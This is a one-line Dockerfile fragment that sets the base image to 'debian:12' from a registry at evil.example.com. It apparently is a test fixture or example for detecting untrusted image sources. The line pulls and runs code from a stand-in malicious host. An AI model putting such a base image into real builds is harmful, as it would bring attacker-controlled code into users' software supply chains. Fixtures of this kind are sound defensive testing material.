FROM evil.example.com/debian:12
